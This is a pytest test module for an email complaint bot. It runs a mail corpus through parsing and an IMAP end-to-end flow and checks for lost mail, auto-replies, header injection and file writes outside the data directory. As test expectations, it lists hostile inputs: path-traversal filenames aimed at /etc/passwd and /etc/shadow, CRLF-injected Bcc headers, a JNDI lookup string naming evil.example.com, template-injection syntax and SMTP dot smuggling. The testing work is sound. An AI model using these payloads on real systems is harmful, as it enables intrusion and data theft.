"""The corpus: every mail in tests/data/corpus (and ../shared/corpus when present) parsed,
then all of them delivered to a real IMAP server and handled by `mailbot poll-once`.

Nothing may be lost (each mail ends in Processed or Quarantine), nothing automatic may be
answered, no outgoing header may carry what came in unstripped, and no file may be written
outside the data dir. The end-to-end test prints a tally (`pytest -s` shows it).
"""

from __future__ import annotations

import email
import imaplib
import re
from collections import Counter
from dataclasses import dataclass, field
from email.message import Message
from email.parser import BytesHeaderParser
from email.policy import compat32, default
from email.utils import getaddresses
from pathlib import Path

import pytest

from mailbot.errors import MailParseError
from mailbot.inbound.parse import parse_message
from mailbot.mail.autoreply import classify_automatic, no_reply_reason
from mailbot.model import InboundMail
from mailbot.store.store import Store

from e2e import Deployment
from support import ANNA, BRAM, COMMITTEE, COMPLAINTS, OPERATOR, PIETER

CORPUS = Path(__file__).parent / "data" / "corpus"
SHARED = Path(__file__).resolve().parents[2] / "shared" / "corpus"
OURS = sorted(CORPUS.glob("*.eml"))
SHARED_FILES = sorted(SHARED.rglob("*.eml")) if SHARED.is_dir() else []
NO_SHARED = f"no shared corpus at {SHARED}"

OWN = frozenset({COMPLAINTS, COMMITTEE})
OWN_DOMAIN = "mailbot.example.nl"
# Files of ours that are automatic mail, by name (see the corpus README).
AUTOMATIC_PREFIXES = ("bounce_", "delayed_", "autoreply_", "bulk_", "list_", "mdn_", "arf_")
# The only files of ours that may (and must) be refused by the parser.
REFUSED = {"mime_nested_insane_5000.eml"}
# Characters that must never reach a value mailbot may copy into an outgoing header.
_UNSAFE = re.compile(r"[\x00-\x1f\x7f\u2028\u2029]")
# Mail the embedded test IMAP server cannot store (pymap's own MIME parser hits the recursion
# limit on it, after up to 10 s); Dovecot stores everything. Not offered to that server.
SERVER_REFUSES = {"dovecot": set(), "pymap": {"mime_nested_insane_5000.eml"}}
# Paths the hostile attachments and the zip name: none of them may ever exist.
TRAVERSAL_TARGETS = [
    Path("/tmp/mailbot-traversal.txt"),
    Path("/tmp/mailbot-absolute.txt"),
    Path("/tmp/mailbot-zip-slip.txt"),
    Path("/tmp/mailbot-name-param.png"),
    Path("/tmp/mailbot-location.png"),
    Path("/etc/mailbot-zip-absolute.txt"),
]


def ours_automatic(path: Path) -> bool:
    return path.name.startswith(AUTOMATIC_PREFIXES)


# --- the corpus itself -------------------------------------------------------------------


def test_corpus_is_large_varied_and_documented() -> None:
    names = [path.name for path in OURS]
    assert len(names) >= 100
    assert sum(name.startswith("complaint_") for name in names) >= 30
    groups = Counter(name.split("_", 1)[0] for name in names)
    assert {"bounce", "delayed", "autoreply", "list", "mdn", "arf", "mime", "encoding"} <= set(
        groups
    ), groups
    assert groups["hostile"] >= 30
    readme = (CORPUS / "README.md").read_text(encoding="utf-8")
    listed = re.findall(r"^- `([^`]+\.eml)` — \S", readme, re.MULTILINE)
    assert sorted(listed) == names  # each file exactly one line, nothing stale


def test_corpus_uses_example_domains_only() -> None:
    domains: set[str] = set()
    for path in OURS:
        head = BytesHeaderParser(policy=compat32).parsebytes(path.read_bytes())
        for name in ("From", "To", "Cc", "Reply-To", "Sender"):
            for _, address in getaddresses([str(v) for v in head.get_all(name, [])]):
                if "@" in address:
                    domains.add(re.sub(r"[^a-z0-9.-].*", "", address.rpartition("@")[2].lower()))
    allowed = re.compile(r"(^|\.)example\.(org|nl|com)$|\.example$")
    assert sorted(d for d in domains if not allowed.search(d)) == []


# --- parsing: every mail parses or is refused, and what it yields is safe -----------------


def check_parsed(mail: InboundMail) -> None:
    """What every parsed mail must satisfy, whatever came in."""
    outgoing_values = {
        "subject": mail.subject,
        "from_name": mail.from_name,
        "from_addr": mail.from_addr,
        "message_id": mail.message_id,
    }
    outgoing_values.update({f"to[{i}]": v for i, v in enumerate(mail.to)})
    outgoing_values.update({f"cc[{i}]": v for i, v in enumerate(mail.cc)})
    outgoing_values.update({f"in_reply_to[{i}]": v for i, v in enumerate(mail.in_reply_to)})
    outgoing_values.update({f"references[{i}]": v for i, v in enumerate(mail.references)})
    for key, value in outgoing_values.items():
        assert isinstance(value, str), key
        assert not _UNSAFE.search(value), f"{key} holds a control character: {value[:80]!r}"
        value.encode("utf-8")  # no lone surrogates
    assert len(mail.subject) <= 998 and len(mail.from_name) <= 998
    assert mail.message_id and len(mail.message_id) <= 500
    assert all(len(i) <= 500 for i in (*mail.in_reply_to, *mail.references))
    assert mail.from_addr == mail.from_addr.lower()
    assert "<" not in mail.message_id and ">" not in mail.message_id
    assert "\r" not in mail.text and "\x00" not in mail.text
    mail.text.encode("utf-8")
    for name, value in mail.headers:
        name.encode("utf-8")
        value.encode("utf-8")
    for attachment in mail.attachments:
        # Metadata only: a name is text (no control characters, short enough), never a path
        # that anything here resolves; the payload is the bytes, never unpacked.
        assert attachment.filename is None or (
            isinstance(attachment.filename, str)
            and 0 < len(attachment.filename) <= 255
            and not _UNSAFE.search(attachment.filename)
        ), attachment.filename
        assert isinstance(attachment.payload, bytes)
    assert all(isinstance(d, str) and len(d) <= 120 for d in mail.defects)


@pytest.mark.parametrize("path", OURS, ids=lambda p: p.name)
def test_every_corpus_mail_parses_or_is_refused(path: Path) -> None:
    raw = path.read_bytes()
    try:
        mail = parse_message(raw)
    except MailParseError:
        assert path.name in REFUSED, "refused although it should parse"
        return
    assert path.name not in REFUSED, "parsed although it nests beyond any limit"
    check_parsed(mail)


@pytest.mark.skipif(not SHARED_FILES, reason=NO_SHARED)
@pytest.mark.parametrize(
    "path", SHARED_FILES, ids=lambda p: str(p.relative_to(SHARED)) if SHARED_FILES else ""
)
def test_every_shared_corpus_mail_parses_or_is_refused(path: Path) -> None:
    try:
        mail = parse_message(path.read_bytes())
    except MailParseError:
        return
    check_parsed(mail)


@pytest.mark.skipif(
    not (SHARED / "flanker" / "enclosed-endless.eml").is_file(),
    reason="no enclosed-endless.eml in the shared corpus",
)
def test_shared_enclosed_endless_is_read_or_refused_quickly() -> None:
    raw = (SHARED / "flanker" / "enclosed-endless.eml").read_bytes()
    try:
        mail = parse_message(raw)
    except MailParseError:
        return
    assert mail.subject == "Wow"
    assert len(mail.attachments) == 1  # the enclosed mail, kept whole, not unpacked


def load(name: str) -> InboundMail:
    return parse_message((CORPUS / name).read_bytes())


# Exact strings the text must hold, as written: backslashes, escapes, non-ASCII.
EXACT_TEXT = {
    "encoding_backslashes_non_ascii.eml": [
        "Mijn bestand staat in C:\\Users\\Zoë\\Documents\\klacht.docx\n",
        "Het netwerkpad is \\\\fileserver\\klachten\\2026\\maart\n",
        "Regel met \\n en \\t en \\\\ en \\u00e9 en \\x41 letterlijk erin.\n",
        "Schouderophalen: ¯\\_(ツ)_/¯\n",
        "Bedrag: € 1.250,00 — „aanhalingstekens” en ‘enkele’.\n",
        "Ĳsselmeer, Ærø, Ça va, Straße, Čapek, Ωmega, 日本語, 👍🏽\n",
    ],
    "encoding_lying_us_ascii_is_utf8.eml": ["Één klacht over café „De Zon” — niet in ASCII."],
    "encoding_latin1_declared_utf8.eml": ["Groeten uit Zürich, één klacht over de crème brûlée."],
    "encoding_cp1252_declared_latin1.eml": [
        "Hij zei: “dit is onacceptabel” – en vroeg € 95 terug…"
    ],
    "encoding_raw_8bit_latin1_headers.eml": ["Die Gebühren für den Kurs sind zu hoch. Grüße."],
    "encoding_unknown_charset.eml": ["Tekst met één en café in een onbekende tekenset."],
    "encoding_broken_quoted_printable.eml": [
        "Ongeldige escapes: =ZZ en =4 en een los = teken.\nGeldig: café en € 10.\n"
    ],
    "encoding_broken_base64.eml": ["De training was slecht voorbereid"],
    "encoding_utf16_body.eml": ["Klacht in UTF-16: één café.\n"],
    "encoding_koi8r.eml": ["Жалоба на курс.\n"],
    "encoding_iso2022jp.eml": ["クレーム complaint"],
    "encoding_mixed_charsets_parts.eml": ["Latin-9: € 50 (euro)", "UTF-8: € 50."],
    "encoding_html_only_entities_script.eml": [
        "Tom & Jerry <b>geen tag</b> één € 😀 café",
        "{{ settings.password }} {% for x in range(9) %}lus{% endfor %}",
    ],
    "complaint_01_nl_outlook.eml": ["€ 1.395,00 klopt niet", "“Timemanagement”"],
    "complaint_21_nl_kpn_webmail_latin1.eml": ["Ik heb één factuur ontvangen", "Café 't Hoekje"],
    "complaint_29_nl_qp_equals_signs.eml": ["3 x 450 = 1.450", "=SOM(B2:B4)*1,21 == fout."],
    "complaint_36_nl_hotmail.eml": ["Het gaat om € 250."],
    "mime_no_content_type.eml": ["één cursus, twee problemen, café gesloten."],
    "mime_false_multipart.eml": ["Dit is gewoon platte tekst, ondanks het multipart-label."],
    "mime_wrong_boundary.eml": ["De gebruikte grens verschilt van de aangekondigde."],
    "mime_missing_boundary_param.eml": ["staat in een multipart zonder boundary."],
    "mime_missing_final_boundary.eml": ["De docent kwam niet opdagen."],
    "mime_nested_deep_60.eml": ["kern van de klacht"],
    "mime_cr_only_line_endings.eml": ["Regel een.\nRegel twee.\n"],
    "mime_nul_in_base64_text.eml": ["Voor de NULna de NUL en klaar."],
    "hostile_template_syntax.eml": ["{{ 7*7 }} {{ config }}", "${jndi:ldap://evil.example.com/a}"],
    "hostile_smuggling_dots.eml": ["tekst\n.\nMAIL FROM:<klachten@example.nl>\n"],
}
# Text that must not be there: what a script, a style or an attached mail holds.
ABSENT_TEXT = {
    "encoding_html_only_entities_script.eml": ["document.cookie", "alert('", "color: red", "<p>"],
    "complaint_11_nl_outlook_web_html_only.eml": ["margin-top", "<div"],
    "mime_nested_rfc822.eml": ["twee lagen diep"],
    "encoding_broken_quoted_printable.eml": ["Ã©", "â‚¬"],
    "encoding_utf8_bom_body.eml": ["\ufeff"],
}


@pytest.mark.parametrize("name", sorted(EXACT_TEXT.keys() | ABSENT_TEXT.keys()))
def test_text_survives_as_written(name: str) -> None:
    mail = load(name)
    for snippet in EXACT_TEXT.get(name, []):
        assert snippet in mail.text
    for snippet in ABSENT_TEXT.get(name, []):
        assert snippet not in mail.text


# (file, field, exact value)
EXACT_HEADERS = [
    ("encoding_raw_8bit_latin1_headers.eml", "subject", "Klacht über Gebühren für den Kurs"),
    ("encoding_raw_8bit_latin1_headers.eml", "from_name", "Günther Weiß"),
    (
        "encoding_raw_8bit_utf8_headers.eml",
        "subject",
        "Één klacht over “De Ĳsbreker” – €50 te veel",
    ),
    ("encoding_raw_8bit_utf8_headers.eml", "from_name", "Zoë Ĳzerman"),
    ("encoding_split_multibyte_encoded_words.eml", "subject", "Klacht over € 50"),
    ("encoding_emoji_subject.eml", "subject", "😡 Slechte service 👎🏽"),
    ("encoding_folded_headers.eml", "from_name", "Gevouwen Naam"),
    ("encoding_folded_headers.eml", "message_id", "enc-11@example.org"),
    ("encoding_rfc2047_odd_places.eml", "from_name", "José García"),
    ("complaint_31_nl_name_with_comma_quotes.eml", "from_name", 'Jansen, P.J. (Piet) "de baas"'),
    (
        "hostile_crlf_encoded_subject.eml",
        "subject",
        "Klacht Bcc: slachtoffer@example.com X-Evil: 1",
    ),
    (
        "hostile_crlf_from_display_name.eml",
        "from_name",
        "Jan Bcc: slachtoffer@example.com X-Evil: 1",
    ),
    ("hostile_control_chars_in_subject.eml", "subject", "Klacht met NUL en escape tekens"),
    ("hostile_bidi_override_name.eml", "subject", "Factuur fdp.exe"),
    ("hostile_bidi_override_name.eml", "from_name", "Klant fdp.exe"),
    ("hostile_raw_nul_in_header.eml", "subject", "Voor na de NUL"),
    ("hostile_display_name_is_complaints_address.eml", "from_addr", "aanvaller@example.org"),
    ("hostile_from_comment_trick.eml", "from_addr", "aanvaller2@example.org"),
    ("hostile_duplicate_from.eml", "from_addr", "echt@example.org"),
    ("hostile_duplicate_subject.eml", "subject", "Gewone klacht"),
    ("hostile_from_committee_address.eml", "from_addr", "klachtencommissie@example.nl"),
    ("hostile_no_from.eml", "from_addr", ""),
    ("hostile_from_not_an_address.eml", "from_addr", ""),
    ("hostile_same_message_id_a.eml", "message_id", "gedeeld-id-0001@example.org"),
    ("hostile_same_message_id_b.eml", "message_id", "gedeeld-id-0001@example.org"),
    ("hostile_message_id_injection.eml", "in_reply_to", ('"quoted\\"local"@example.org',)),
]


@pytest.mark.parametrize(("name", "key", "expected"), EXACT_HEADERS)
def test_header_values(name: str, key: str, expected: object) -> None:
    assert getattr(load(name), key) == expected


def test_missing_or_unusable_message_ids_become_synthetic() -> None:
    for name in (
        "hostile_no_message_id.eml",
        "hostile_message_id_too_long.eml",
        "hostile_message_id_injection.eml",  # an encoded word is no id
    ):
        mail = load(name)
        assert mail.message_id == f"{mail.sha256}@mailbot.invalid"
    assert load("hostile_message_id_too_long.eml").in_reply_to == ()
    assert len(load("hostile_references_flood.eml").references) == 3000


def test_defects_are_recorded_for_broken_mail() -> None:
    expected = {
        "hostile_duplicate_from.eml": "2 From headers: the first one counts",
        "hostile_duplicate_subject.eml": "2 Subject headers: the first one counts",
        "hostile_multiple_from_addresses.eml": "From holds 3 addresses: the first one counts",
        "hostile_no_message_id.eml": "no Message-ID: synthetic id from the SHA-256",
        "hostile_message_id_too_long.eml": "unusable Message-ID: synthetic id from the SHA-256",
        "hostile_message_id_injection.eml": "unusable Message-ID: synthetic id from the SHA-256",
        "hostile_address_encoded_word_addr_spec.eml": "From address unusable",
        "hostile_no_from.eml": "no From address",
        "mime_false_multipart.eml": "multipart/mixed: no usable boundary, body read as text",
        "mime_nul_in_base64_text.eml": "text/plain: control characters removed",
        "encoding_unknown_charset.eml": "text/plain: unknown charset 'x-unknown-8bit'",
        "encoding_latin1_declared_utf8.eml": (
            "text/plain: declared charset utf-8, decoded as cp1252"
        ),
        "encoding_raw_8bit_latin1_headers.eml": "raw 8-bit header Subject: decoded as cp1252",
        "mime_missing_final_boundary.eml": "multipart/mixed: CloseBoundaryNotFoundDefect",
    }
    for name, defect in expected.items():
        assert defect in load(name).defects, name
    wrong = load("mime_wrong_boundary.eml").defects
    assert any("split on boundary 'werkelijk'" in defect for defect in wrong)


# (file, attachment filenames as metadata, in order)
FILENAMES = {
    "hostile_attachment_traversal.eml": [
        "../../etc/passwd",
        "../../../../../../tmp/mailbot-traversal.txt",
    ],
    "hostile_attachment_absolute.eml": ["/etc/shadow", "/tmp/mailbot-absolute.txt"],
    "hostile_attachment_windows_path.eml": [
        "C:\\Windows\\evil.exe",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "\\\\server\\share\\x.bat",
    ],
    "hostile_attachment_nul_name.eml": [
        "evil.exe .pdf",
        "evil2.exe .pdf",
        "regel Content-Type: text/html.txt",
    ],
    "hostile_rfc2231_continuation_tricks.eml": [
        "../../etc/passwd",
        "deel0deel1deel2deel10",
        "dubbeleerst-einde",
        "zonder-nul.txt",
        "../../x.sh",
        "onschuldig.txt",
        "ÿþ.txt",
        "%ZZ%2",
        "€.txt",
    ],
    "encoding_rfc2231_filenames.eml": ["factuur één.pdf", "rapport € deel 2.pdf", "📎 notitie.txt"],
    "encoding_rfc2047_odd_places.eml": ["bijlage één.txt"],
    "encoding_winmail_dat.eml": ["winmail.dat"],
    "encoding_zip_attachment.eml": ["stukken.zip"],
}


@pytest.mark.parametrize("name", sorted(FILENAMES))
def test_attachment_names_are_kept_as_metadata(name: str) -> None:
    assert [a.filename for a in load(name).attachments] == FILENAMES[name]


def test_long_attachment_names_are_cut_keeping_the_extension() -> None:
    first, second = load("hostile_attachment_long_name.eml").attachments
    assert first.filename == "a" * 251 + ".txt"
    assert second.filename == "é" * 251 + ".pdf"


def test_archives_and_tnef_stay_opaque_attachments() -> None:
    [archive] = load("encoding_zip_attachment.eml").attachments
    assert archive.content_type == "application/zip"
    assert archive.payload.startswith(b"PK\x03\x04") and len(archive.payload) < 10_000
    [tnef] = load("encoding_winmail_dat.eml").attachments
    assert tnef.content_type == "application/ms-tnef"
    assert tnef.payload.startswith(bytes.fromhex("789f3e22"))


@pytest.mark.parametrize("path", [p for p in OURS if p.name not in REFUSED], ids=lambda p: p.name)
def test_automatic_mail_is_recognised_by_name(path: Path) -> None:
    mail = parse_message(path.read_bytes())
    kind = classify_automatic(mail, OWN, OWN_DOMAIN)
    reason = no_reply_reason(mail, OWN, OWN_DOMAIN)
    if ours_automatic(path):
        assert kind is not None and reason is not None, (kind, reason)
    elif path.name.startswith(("complaint_", "staff_")):
        assert (kind, reason) == (None, None)


# --- end to end: all of it through mailbot on a real IMAP server --------------------------


def independent_automatic(raw: bytes) -> bool:
    """A crude second opinion, read with the stdlib only, on whether a machine sent this:
    used to sort the shared corpus (whose files are not named by kind)."""
    head = BytesHeaderParser(policy=compat32).parsebytes(raw)

    def values(name: str) -> list[str]:
        return [str(v).strip().lower() for v in head.get_all(name, [])]

    senders = [a.lower() for _, a in getaddresses(values("from"))]
    return bool(
        any(v and not v.startswith("no") for v in values("auto-submitted"))
        or any(v.split()[:1] in (["bulk"], ["junk"], ["list"]) for v in values("precedence"))
        or any(name.lower().startswith("list-") for name in head)
        or any(re.sub(r"[\s<>]", "", v) == "" for v in values("return-path"))
        or any(v.startswith("multipart/report") for v in values("content-type"))
        or any(re.match(r"(mailer-?daemon|postmaster|no-?reply)@", s) for s in senders)
        or values("x-failed-recipients")
    )


@dataclass
class Tally:
    delivered: int = 0
    refused_by_server: list[str] = field(default_factory=list)
    kinds: Counter[str] = field(default_factory=Counter)
    discards: Counter[str] = field(default_factory=Counter)
    quarantines: Counter[str] = field(default_factory=Counter)

    def add_poll(self, output: str) -> None:
        found = re.search(
            r"(\d+) new case\(s\), (\d+) added to a case, (\d+) with commands, (\d+) refused, "
            r"(\d+) discarded, (\d+) quarantined",
            output,
        )
        assert found, output
        for key, value in zip(
            ("opened", "added", "commands", "refused", "discarded", "quarantined"),
            map(int, found.groups()),
            strict=True,
        ):
            self.kinds[key] += value

    def text(self, title: str) -> str:
        lines = [
            f"{title}: {self.delivered} delivered; "
            + ", ".join(f"{k} {self.kinds[k]}" for k in sorted(self.kinds)),
            f"  not stored by the IMAP server (APPEND refused): {self.refused_by_server or 'none'}",
            "  discarded, by reason:",
            *(f"    {n:4d}  {r}" for r, n in sorted(self.discards.items())),
            "  quarantined, by reason:",
            *(f"    {n:4d}  {r}" for r, n in sorted(self.quarantines.items())),
        ]
        return "\n".join(lines)


def reason_kind(reason: str) -> str:
    """A reason without its particulars, to count alike reasons together."""
    if reason.startswith("duplicate of a mail"):
        return "duplicate of a mail handled before"
    reason = re.sub(r"\s*\([^()]*\)", "", reason)
    return re.sub(r"own mail: sent from \S+", "own mail: sent from an own address", reason)


def seen_records(data_dir: Path) -> list:
    with Store.open(data_dir, readonly=True) as store:
        # The store has no public listing of what it has seen; the test reads its index.
        return store.seen_records()


def header_block(raw: bytes) -> list[bytes]:
    head = re.split(rb"\r?\n\r?\n", raw, maxsplit=1)[0]
    return re.split(rb"\r?\n", head)


def check_outgoing(raw: bytes, rcpt_tos: tuple[str, ...]) -> Message:
    assert len(rcpt_tos) == 1, rcpt_tos
    assert b"\x00" not in raw
    assert re.search(rb"\r(?!\n)", raw) is None, "bare CR"
    for line in header_block(raw):
        # Every line is a header or the continuation of one: nothing was injected.
        assert re.match(rb"[!-9;-~]+:|[ \t]", line), line[:100]
    message = email.message_from_bytes(raw, policy=default)
    for name in ("Bcc", "X-Evil", "Content-Type: text/html"):
        assert message[name] is None
    assert len(message.get_all("To", [])) == 1
    [(_, to)] = getaddresses([str(message["To"])])
    assert to.lower() == rcpt_tos[0].lower()
    for name, value in message.items():
        assert not _UNSAFE.search(str(value).replace("\t", " ")), (name, str(value)[:100])
    return message


def listing(root: Path) -> set[Path]:
    return {path for path in root.rglob("*")}


CORPUS_SETS = {"ours": OURS, "shared": SHARED_FILES}


@pytest.fixture
def deployment(tmp_path: Path, imap_server, smtp_sink) -> Deployment:
    return Deployment(tmp_path, imap_server, smtp_sink)


@pytest.mark.parametrize("which", ["ours", "shared"])
def test_the_whole_corpus_end_to_end(deployment: Deployment, which: str, tmp_path: Path) -> None:
    files = CORPUS_SETS[which]
    if not files:
        pytest.skip(NO_SHARED)
    raws = {path: path.read_bytes() for path in files}
    if which == "ours":
        automatic = {path for path in files if ours_automatic(path)}
    else:
        automatic = {path for path in files if independent_automatic(raws[path])}
    people = [path for path in files if path not in automatic]
    data_dir = deployment.settings.storage.data_dir
    before = listing(tmp_path)
    targets_before = {path for path in TRAVERSAL_TARGETS if path.exists()}
    tally = Tally()

    # Phase 1: the mail people write (and the hostile and broken mail), in name order.
    deliver(deployment, people, raws, tally)
    code, out = deployment.poll()
    assert code == 0, out
    tally.add_poll(out)
    sent_for_people = len(deployment.sink.messages)
    # Phase 2: the automatic mail, some of it about the cases phase 1 opened.
    deliver(deployment, sorted(automatic), raws, tally)
    code, out = deployment.poll()
    assert code == 0, out
    tally.add_poll(out)

    for record in seen_records(data_dir):
        if record.outcome == "discarded":
            tally.discards[reason_kind(record.reason)] += 1
        elif record.outcome == "quarantined":
            tally.quarantines[reason_kind(record.reason)] += 1
    report = tally.text(f"corpus {which} on {deployment.imap.kind}")
    print("\n" + report)

    # Nothing lost: the inbox is empty and every mail is in Processed or Quarantine.
    processed = deployment.imap.messages("Processed")
    quarantined = deployment.imap.messages("Quarantine")
    assert deployment.imap.messages("INBOX") == [], report
    assert len(processed) + len(quarantined) == tally.delivered, report
    assert sum(tally.kinds.values()) == tally.delivered, report
    assert tally.kinds["quarantined"] == len(quarantined), report
    assert sum(tally.quarantines.values()) == len(quarantined), report

    # Nothing automatic answered: phase 2 caused no mail but operator alerts.
    sent = deployment.sink.messages
    caused_by_automatic = [m for m in sent[sent_for_people:] if m.rcpt_tos != (OPERATOR,)]
    assert caused_by_automatic == [], report
    robot_senders = senders(raws, automatic) - senders(raws, people)
    for mail in sent:
        assert mail.rcpt_tos[0].lower() not in robot_senders | OWN, (mail.rcpt_tos, report)

    # Every outgoing mail is clean and has exactly one recipient.
    for mail in sent:
        check_outgoing(mail.raw, mail.rcpt_tos)

    # No file outside the data dir; no archive unpacked, no attachment under its own name.
    new = listing(tmp_path) - before
    assert [p for p in new if data_dir not in (p, *p.parents)] == [], report
    assert {path for path in TRAVERSAL_TARGETS if path.exists()} == targets_before
    stored = [path.name for path in new if path.is_file()]
    for bad in ("passwd", "shadow", "evil", "winmail", "stukken", "nullen", "zip-slip", ".."):
        assert not [name for name in stored if bad in name], bad

    if which == "ours":
        check_our_cases(deployment, tally, report)


def deliver(deployment: Deployment, paths, raws: dict[Path, bytes], tally: Tally) -> None:
    """APPEND each mail to the inbox, over one connection (as an MTA's LDA would deliver)."""
    with deployment.imap.client() as client:
        for path in paths:
            if path.name in SERVER_REFUSES[deployment.imap.kind]:
                tally.refused_by_server.append(path.name)
                continue
            try:
                client.append("INBOX", raws[path])
            except (imaplib.IMAP4.error, imaplib.IMAP4.abort) as exc:
                raise AssertionError(f"the IMAP server refused {path.name}: {exc}") from exc
            tally.delivered += 1


def senders(raws: dict[Path, bytes], paths) -> set[str]:
    found: set[str] = set()
    for path in paths:
        head = BytesHeaderParser(policy=compat32).parsebytes(raws[path])
        for name in ("From", "Reply-To", "Sender", "Return-Path"):
            values = [str(v) for v in head.get_all(name, [])]
            found.update(a.lower() for _, a in getaddresses(values) if "@" in a)
    return found


def check_our_cases(deployment: Deployment, tally: Tally, report: str) -> None:
    """What the named files of our corpus must have done."""
    cases = {case.id: case for case in deployment.cases()}
    by_complainant: dict[str, list] = {}
    for case in cases.values():
        by_complainant.setdefault(case.complainant.email or "", []).append(case)
    first = cases["KL-2026-0001"]
    assert first.complainant.email == "marieke.jansen@example.org", report
    inbound = {m.message_id for m in first.messages if m.direction == "in"}
    # Her reply and her out-of-office joined her case; a stranger quoting the tag did not.
    assert "AM9PR02MB7301OOF0001@AM9PR02MB7301.eurprd02.prod.example.org" in inbound, report
    assert "hostile-11@example.org" not in inbound
    assert [c.id for c in by_complainant["buur@example.org"]] != ["KL-2026-0001"]
    # A forged Authentication-Results did not let "anna" close the case.
    assert first.status == "open", report
    assert cases["KL-2026-0002"].complainant.email == "thijs@example.org"
    # Two different mails with one Message-ID: both kept, as two cases.
    assert len(by_complainant["eerste@example.org"]) == 1
    assert len(by_complainant["tweede@example.org"]) == 1
    # A redelivered copy made no second case; a mail without Message-ID got one.
    assert len(by_complainant["a.bakker@example.org"]) == 1
    assert tally.discards["duplicate of a mail handled before"] >= 1, report
    assert len(by_complainant["geen.id@example.org"]) == 1
    # Spoofs of mailbot's own addresses were never answered or made into a case.
    assert not (by_complainant.keys() & OWN), report
    # Mail text is data: the template syntax reached staff literally, never evaluated.
    notices = [m for m in deployment.sent() if m["To"] and PIETER in str(m["To"])]
    assert any("{{ 7*7 }}" in part.get_content() for part in _text_parts(notices)), report
    assert not any("49 {{" in part.get_content() for part in _text_parts(notices))
    for address in (ANNA, BRAM):
        assert deployment.sent_to(address), address


def _text_parts(messages: list[Message]) -> list[Message]:
    return [part for m in messages for part in m.walk() if part.get_content_type() == "text/plain"]
